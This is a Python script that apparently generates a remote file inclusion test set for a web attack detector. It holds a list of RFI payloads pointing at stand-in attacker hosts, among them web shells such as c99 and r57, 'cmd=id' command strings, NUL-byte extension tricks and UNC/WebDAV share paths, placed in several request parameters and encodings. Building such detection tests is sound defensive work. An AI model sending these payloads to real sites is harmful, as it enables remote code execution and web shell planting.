"""Remote file inclusion (``1070-rfi.yaml``).

A URL handed to a parameter that the application includes or reads as a
file: a script or text file on the attacker's host, usually ended with
``?`` (or ``??``, ``#``, a NUL byte) so the extension the application
appends becomes a query string; hosts given as IP addresses; FTP and SMB /
WebDAV (UNC) shares; protocol-relative URLs. The parameters are the ones
include-style code takes (``page``, ``file``, ``include``, ``template``,
``lang``, ``module``...). PHP stream wrappers (``php://``, ``data:``) belong
to the PHP family.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from common import (
    Placement,
    in_cookie,
    in_form,
    in_json,
    in_multipart,
    in_query,
    in_xml,
    write,
)
from common import spread as common_spread

PLACES: dict[str, tuple[str, Placement]] = {
    "query-page": ("query", in_query("page", "/index.php")),
    "query-file": ("query", in_query("file", "/view.php")),
    "query-include": ("query", in_query("include", "/modules/loader.php")),
    "form-template": ("form", in_form("template", "/admin/theme.php")),
    "json-module": ("json", in_json("module", "/api/v1/plugins/load")),
    "xml": ("xml", in_xml("include", "/api/v1/reports")),
    "multipart": ("multipart", in_multipart("template_url", "/admin/import")),
    "cookie-lang": ("cookie", in_cookie("lang", "/index.php")),
    "query-q": ("query", in_query("q", "/search")),
}

ROTATION = ["query-page", "form-template", "json-module", "query-file", "cookie-lang",
            "query-include", "xml", "multipart"]


def spread(payloads: Sequence[str], rotation: Sequence[str], per: int,
           encodings: Sequence[str] = ("plain",), start: int = 0) -> list[dict[str, Any]]:
    return common_spread(payloads, rotation, per, places=PLACES, family="rfi",
                         encodings=encodings, start=start)


PAYLOADS = [
    "http://evil.example/shell.txt?",
    "https://evil.example/c99.txt?",
    "http://evil.example/shell.php",
    "http://203.0.113.7/shell.txt",
    "http://203.0.113.7/r57.txt?",
    "ftp://203.0.113.7/pub/shell.php",
    "ftp://anonymous:guest@evil.example/shell.txt?",
    "http://evil.example/shell.txt\x00",
    "http://evil.example/shell.txt#",
    "http://evil.example/phpinfo.txt??",
    "https://pastebin.com/raw/AbCdEf12?",
    "//evil.example/shell.php",
    "\\\\203.0.113.7\\share\\shell.php",
    "\\\\evil.example@SSL\\DavWWWRoot\\shell.php",
    "http://198.51.100.23:8080/inc.php?",
    "https://raw.githubusercontent.com/attacker/kit/main/shell.php",
    "http://evil.example/x.txt?&cmd=id",
    "http://evil.example/shell.jpg?",
    "https://evil.example/backdoor.inc",
    "http://evil.example/payload.txt%00",
    "http://203.0.113.7:8000/rev.php",
    "https://evil.example/shell.php?cmd=",
    "ftps://evil.example/x.php",
]


def main() -> None:
    tests: list[dict[str, Any]] = []
    tests += spread(PAYLOADS, ROTATION, per=2)
    tests += spread(["http://evil.example/shell.txt?", "http://203.0.113.7/x.php?"],
                    ["query-q"], per=1)
    tests += spread(["http://evil.example/shell.txt?", "http://203.0.113.7/shell.php",
                     "ftp://203.0.113.7/x.txt?"], ["query-page", "form-template"], per=1,
                    encodings=("double-url",))
    tests += spread(["hTtP://EvIl.example/ShElL.txt?", "HTTP://203.0.113.7/SHELL.PHP"],
                    ["query-page"], per=1, encodings=("plain",))
    tests += spread(["http://evil.example/shell.txt?"], ["query-file"], per=1,
                    encodings=("unicode-u",))
    write("attacks/1070-rfi.yaml", 1070000,
          "Remote file inclusion: remote scripts with neutralised extensions, IP hosts, FTP, UNC",
          tests)


if __name__ == "__main__":
    main()
